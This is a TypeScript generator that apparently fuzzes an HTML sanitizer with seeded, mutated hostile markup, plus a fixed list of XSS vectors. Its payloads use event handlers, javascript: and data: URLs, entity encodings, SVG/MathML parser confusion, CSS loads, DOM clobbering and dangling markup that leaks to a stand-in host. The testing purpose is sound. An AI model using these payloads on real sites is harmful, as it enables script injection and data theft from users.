/**
 * HTML made to run, load or lead away whatever shows it: tags × attributes × encodings × nesting, from our own pieces, by chance
 * that repeats. A script that runs calls `top.ran()`; whatever loads asks a host below `spy.test`.
 */

import { chance, type Chance } from './chance.ts';

/** `count` of them; the same seed gives the same. */
export function hostileHtml(seed: number, count: number): string[] {
  const luck = chance(seed);
  return Array.from({ length: count }, () => mutated(luck, Array.from({ length: 1 + luck.below(3) }, () => nested(luck, piece(luck), luck.below(4))).join(luck.of(['', '\n', '<br>', '<!-- -->', 'x']))));
}

/** Some that surely run or load in a browser without any protection: whoever finds nothing here is not looking. */
export const surelyHostile = [
  '<img src=x onerror=top.ran()>', '<svg onload=top.ran()>', '<script>top.ran()</script>', '<img src="http://spy.test/a">', '<iframe src="http://spy.test/b"></iframe>',
  '<style>body{background:url(http://spy.test/c)}</style>', '<link rel=stylesheet href="http://spy.test/d">', '<body onload=top.ran()>', '<meta http-equiv=refresh content="0;url=http://spy.test/e">',
  '<p style="background:url(http://spy.test/f)">x', '<foo><</foo><img src=x onerror=top.ran()>', '<table background="http://spy.test/g"><tr><td>x', '<iframe srcdoc="<script>top.ran()</script>"></iframe>',
];

const RUN = 'top.ran()';
const pieces = [byAttribute, byRawText, byForeign, byBrokenTag, byLink, byStyle, byHead, byClobbering, byDangling];

function piece(luck: Chance): string {
  return luck.of(pieces)(luck);
}

const tags = ('a abbr acronym address applet area article aside audio b base basefont bdo bgsound blink blockquote body br button canvas caption center cite code col command '
  + 'content custom-tag data datalist dd del details dialog dir div dl dt element em embed fencedframe fieldset figure font footer form frame frameset h1 head header hr '
  + 'html i iframe image img input ins isindex kbd keygen label layer legend li link listing main map marquee math menu menuitem meta meter multicol nav nextid nobr object ol '
  + 'optgroup option output p param picture plaintext portal pre progress q rb rp rt rtc ruby s samp search section select shadow slot small source spacer span strike '
  + 'strong sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr xml xmp x').split(' ');
const events = ('onload onerror onclick onfocus onfocusin onblur ontoggle onbegin onend onanimationstart ontransitionend onmouseover onpointerover onpageshow onscroll onresize '
  + 'onmessage onhashchange oncanplay onloadstart onloadeddata onbeforetoggle oncontentvisibilityautostatechange onsecuritypolicyviolation onwheel onauxclick').split(' ');
const addressed = ('src href srcset imagesrcset poster background action formaction data xlink:href lowsrc dynsrc longdesc cite ping manifest profile usemap classid codebase '
  + 'icon archive content value srcdoc style from to values').split(' ');

function byAttribute(luck: Chance): string {
  const attributes = Array.from({ length: 1 + luck.below(4) }, () => luck.of([eventAttribute, addressAttribute, oddAttribute])(luck));
  return `<${cased(luck, luck.of(tags))}${luck.of([' ', '/', '\t', '\n', '\f', ' / '])}${attributes.join(luck.of([' ', '/', '\n']))}>${luck.happens(0.5) ? 'x' : ''}${luck.happens(0.3) ? `</${luck.of(tags)}>` : ''}`;
}

function eventAttribute(luck: Chance): string {
  return `${cased(luck, luck.of(events))}${luck.of(['=', ' =', '= ', '\n=\n'])}${quoted(luck, encoded(luck, RUN))}${luck.of(['', ' autofocus tabindex=1', ' src=x', ' open', ' style="animation:x 1s"', ' href=x'])}`;
}

function addressAttribute(luck: Chance): string {
  return `${cased(luck, luck.of(addressed))}=${quoted(luck, encoded(luck, address(luck)))}`;
}

function oddAttribute(luck: Chance): string {
  return luck.of(['is=x-a', 'slot=x', 'id=top', 'name=ran', 'class=images', 'http-equiv=refresh', 'rel=stylesheet', 'rel=dns-prefetch', 'rel=preconnect', 'type=image', 'shadowrootmode=open',
    'contenteditable', 'autofocus', 'popover', 'target=_top', 'dir=rtl', 'title="--><img src=x onerror=top.ran()>"', 'alt="</style><img src=x onerror=top.ran()>"', 'width=1', 'allow=*', 'sandbox="allow-scripts"']);
}

/** What spies and runs: every form of an address. */
function address(luck: Chance): string {
  const host = `spy.test/${luck.below(1000)}`;
  return luck.of([`http://${host}`, `https://${host}`, `//${host}`, `\\\\${host}`, `http:${host}`, `https:/${host}`, `///${host}`, `/\\${host}`, `http:\\\\${host}`, `http://own@${host}`, `HtTp://${host}`,
    ` http://${host}`, `ht\ntp://${host}`, `\u0001http://${host}`, `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, ` \u0001javascript:${RUN}`, `javascript://%0a${RUN}`,
    `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD50b3AucmFuKCk8L3NjcmlwdD4=`, `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
    `data:image/png;base64,"><img src=x onerror=${RUN}>`, `vbscript:${RUN}`, `feed:javascript:${RUN}`, `blob:http://${host}`, 'filesystem:x', 'about:blank', `view-source:http://${host}`, '/sign-out', '../x', '?x', '#x',
    `cid:"><img src=x onerror=${RUN}>`, 'cid:../../../sign-out', `cid:shot@x" onload="${RUN}`, `mailto:a@b.example?x=<script>${RUN}</script>`, `tel:"onclick=${RUN}`, `http://${host} 2x, //${host} 1x`, `0;url=http://${host}`]);
}

const rawTexts = 'script style xmp iframe noembed noframes noscript plaintext textarea title select template svg math'.split(' ');

/** Text that one parser takes for text and another for tags. */
function byRawText(luck: Chance): string {
  const tag = luck.of(rawTexts);
  const image = `<img src=x onerror=${RUN}>`;
  return luck.of([`<${tag}><p title="</${tag}>${image}">`, `<${tag}>${image}</${tag}>`, `<${tag}><!--</${tag}>${image}-->`, `<${tag}/>${image}`, `</${tag}>${image}`, `<${tag} ${image}`, `<!--><${tag}>${image}`,
    `<!-- --!>${image}-->`, `<!--->${image}-->`, `<![CDATA[>${image}]]>`, `<?x >${image}?>`, `</ x${image}>`, `<!x "${image}">`, `<${tag}><${luck.of(rawTexts)}></${tag}>${image}`, `<${tag}>&lt;/${tag}&gt;${image}`]);
}

/** Names that mean one thing in HTML and another in SVG and MathML. */
function byForeign(luck: Chance): string {
  const outer = luck.of(['svg', 'math', 'svg><foreignObject', 'svg><desc', 'svg><title', 'math><mtext', 'math><mi', 'math><annotation-xml encoding="text/html"', 'math><annotation-xml', 'math><mtext><table><mglyph', 'svg><a', 'form><math><mtext></form><form><mglyph']);
  const inner = luck.of(['style', 'title', 'xmp', 'noscript', 'script', 'textarea', 'mglyph', 'malignmark', 'p', 'br', 'table', 'font color=x', 'set attributeName=href to=javascript:top.ran()', 'animate attributeName=href values=javascript:top.ran()',
    'use href="http://spy.test/u"', 'image href="http://spy.test/i"', 'feImage href="http://spy.test/f"', 'script href="data:,top.ran()"', 'style><!--', 'a xlink:href="javascript:top.ran()"']);
  const image = luck.of([`<img src=x onerror=${RUN}>`, `<img title="--&gt;&lt;/style&gt;&lt;img src=1 onerror=${RUN}&gt;">`, `<!--</style><img title="--><img src=1 onerror=${RUN}>">`, `</${inner.split(' ')[0]}><img src=x onerror=${RUN}>`, `<style>@import "http://spy.test/s"</style>`]);
  return `<${outer}><${inner}>${image}${luck.happens(0.4) ? `</${outer.split(/[> ]/)[0]}>` : ''}`;
}

function byBrokenTag(luck: Chance): string {
  return luck.of(['<foo><</foo>img src=x onerror=top.ran()>', '<foo><</foo><img src=x onerror=top.ran()>', '<<img src=x onerror=top.ran()>', '<img/src=x/onerror=top.ran()>', '<img src=x\u0000 onerror=top.ran()>', '<im\u0000g src=x onerror=top.ran()>',
    '<img src=x onerror\n=\ntop.ran()//', '<img src=`x` onerror=top.ran()>', '<img """><script>top.ran()</script>">', '<a <img src=x onerror=top.ran()>', '<scr<script>ipt>top.ran()</scr</script>ipt>', '<ſcript>top.ran()</ſcript>', '<img\fsrc=x\fonerror=top.ran()>',
    '<svg/onload=top.ran()//', '<body/onload=top.ran()', '<iframe/onload=top.ran()//', '&lt;img src=x onerror=top.ran()&gt;', '&#60;script>top.ran()&#60;/script>', '+ADw-script+AD4-top.ran()+ADw-/script+AD4-', '<div id="<img src=x onerror=top.ran()>', "<div title='<img src=x onerror=top.ran()>", '%3Cscript%3Etop.ran()%3C/script%3E']);
}

function byLink(luck: Chance): string {
  return `<a href=${quoted(luck, encoded(luck, address(luck)))} ${luck.of(['', 'ping="http://spy.test/p"', 'download', 'target=_top', 'onclick=top.ran()', 'rel=prefetch', 'title="https://bank.example"'])}>${luck.of(['x', 'https://bank.example', piece(luck), '<img src=x onerror=top.ran()>'])}</a>`;
}

const urls = ['url(http://spy.test/1)', "url('http://spy.test/2')", 'u\\72l(http://spy.test/3)', 'URL(//spy.test/4)', 'image-set("http://spy.test/5" 1x)', '-webkit-image-set(url(http://spy.test/6) 1x)', 'url(/*)*/http://spy.test/7)', 'cross-fade(url(http://spy.test/8),url(http://spy.test/9))', 'expression(top.ran())', 'url(javascript:top.ran())', 'var(--x)', 'attr(title)'];
const looks = ['background', 'background-image', 'list-style', 'list-style-image', 'border-image', 'content', 'cursor', 'filter', 'mask', '-moz-binding', 'behavior', 'src', '--x', 'font', 'clip-path', 'shape-outside', 'offset-path', 'color', 'width', 'backgro\\und', 'BACKGROUND'];

function byStyle(luck: Chance): string {
  const declared = Array.from({ length: 1 + luck.below(3) }, () => `${luck.of(looks)}${luck.of([':', ' : ', '/**/:'])}${luck.of(['', '#fff ', 'red;', '"', "'", '}*{', '/*'])}${luck.of(urls)}${luck.of(['', ' !important', ')', '"', '}'])}`).join(';');
  return luck.of([`<p style=${quoted(luck, encoded(luck, declared))}>x</p>`, `<style>*{${declared}}</style>`, `<style>@import ${luck.of(urls)};</style>`, `<style>@font-face{font-family:x;src:${luck.of(urls)}}*{font-family:x}</style>`,
    `<p style="position:fixed;inset:0;z-index:9;background:red;margin:-999px">x</p>`, `<style><img src=x onerror=${RUN}></style>`, `<svg><style>*{${declared}}</style>`, `<font style="${declared.replaceAll('"', '')}" face="x',url(http://spy.test/z)">x</font>`]);
}

function byHead(luck: Chance): string {
  const to = address(luck).replaceAll('"', '&quot;');
  return luck.of([`<meta http-equiv="refresh" content="0;url=${to}">`, `<base href="${to}">`, `<link rel="stylesheet" href="${to}">`, `<link rel="${luck.of(['preload', 'prefetch', 'preconnect', 'dns-prefetch', 'icon', 'import', 'modulepreload', 'prerender', 'manifest'])}" href="http://spy.test/l" as=image>`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *">`, `<form action="${to}"><input name=x><button>x</button></form>`, `<object data="${to}"></object>`, `<embed src="${to}">`, `<iframe src="${to}"></iframe>`, `<iframe srcdoc="&lt;script>${RUN}&lt;/script>"></iframe>`,
    `<portal src="${to}"></portal>`, `<frameset onload=${RUN}><frame src="${to}"></frameset>`, `<video poster="${to}" src="${to}" autoplay></video>`, `<audio src="${to}" autoplay></audio>`, `<picture><source srcset="${to}"><img src=x></picture>`, `<input type=image src="${to}">`, `<template shadowrootmode=open><img src="${to}" onerror=${RUN}></template>`,
    `<script type=speculationrules>{"prefetch":[{"urls":["http://spy.test/r"]}]}</script>`, `<script src="${to}"></script>`, `<script type=module>${RUN}</script>`, `<body background="${to}" onload=${RUN}>`, `<html manifest="${to}" onclick=${RUN}>`, `<isindex action="${to}" type=image src="${to}">`, `<math href="javascript:${RUN}">x</math>`, `<marquee onstart=${RUN}>x</marquee>`]);
}

/** Names that stand in the way of the page's own. */
function byClobbering(luck: Chance): string {
  const name = luck.of(['top', 'parent', 'document', 'defaultView', 'documentElement', 'body', 'images', 'contentWindow', 'getElementById', '__proto__', 'location']);
  return luck.of([`<a id=${name}></a><a id=${name} name=href href="javascript:${RUN}">x</a>`, `<form name=${name}><input name=attributes><input id=parentNode></form>`, `<img name=${name}>`, `<iframe name=${name} srcdoc="x"></iframe>`, `<p class="mail images image host" id="${name}">x</p>`]);
}

function byDangling(luck: Chance): string {
  return luck.of(["<img src='http://spy.test/d?", '<img src="http://spy.test/d?', '<a href="http://spy.test/d?', "<p style='background:url(http://spy.test/d?", '<textarea>', '<!--', '<plaintext>', '<style>', '<script>', '<xmp>', '<title>', '<select><option>', '<button>', '<form action=http://spy.test/d><textarea name=x>', '<base target="', '<noscript><', '<svg><![CDATA[', "<img alt='"]);
}

const wraps = ['p', 'div', 'table', 'table><tr><td', 'select', 'a href=https://a.example', 'b', 'form', 'ul><li', 'svg', 'math', 'template', 'button', 'blockquote', 'center', 'font', 'noscript', 'textarea', 'svg><foreignObject', 'ruby><rt', 'dl><dd', 'h1', 'object', 'details', 'td', 'body', 'head'];

function nested(luck: Chance, inside: string, times: number): string {
  if (times === 0) return inside;
  const wrap = luck.of(wraps);
  const end = luck.happens(0.7) ? `</${(luck.happens(0.8) ? wrap : luck.of(wraps)).split(/[> ]/)[0]}>` : '';
  return nested(luck, `<${wrap}>${inside}${end}`, times - 1);
}

/** Now and then a character goes, comes twice or changes, as in mails that were broken on their way. */
function mutated(luck: Chance, html: string): string {
  let changed = html;
  for (let times = luck.happens(0.4) ? 1 + luck.below(3) : 0; times > 0; times -= 1) {
    const at = luck.below(changed.length);
    changed = changed.slice(0, at) + luck.of(['', '<', '>', '"', "'", '\u0000', '&', '/', ' ', '=', '`', '\u2028', '--', ']]>']) + changed.slice(at + luck.below(2));
  }
  return changed;
}

function cased(luck: Chance, name: string): string {
  return luck.happens(0.3) ? [...name].map((one) => (luck.happens(0.5) ? one.toUpperCase() : one)).join('') : name;
}

function quoted(luck: Chance, value: string): string {
  return luck.of([`"${value.replaceAll('"', '&quot;')}"`, `'${value.replaceAll("'", '&#39;')}'`, `"${value}"`, value.replace(/[\s>]/g, '')]);
}

/** The same to a browser, other letters to whoever only looks at the letters. */
function encoded(luck: Chance, value: string): string {
  const each = (by: (one: string) => string) => [...value].map((one) => (luck.happens(0.4) ? by(one) : one)).join('');
  return luck.of([() => value, () => value, () => each((one) => `&#${one.charCodeAt(0)};`), () => each((one) => `&#x${one.charCodeAt(0).toString(16)}`.concat(';')), () => value.replace(':', '&colon;'), () => value.replace('(', '&lpar;').replace(')', '&rpar;'),
    () => value.replace('s', '&Tab;s'), () => value.replace('/', '&sol;'), () => each((one) => `&#0${one.charCodeAt(0)}`.concat(';'))])();
}
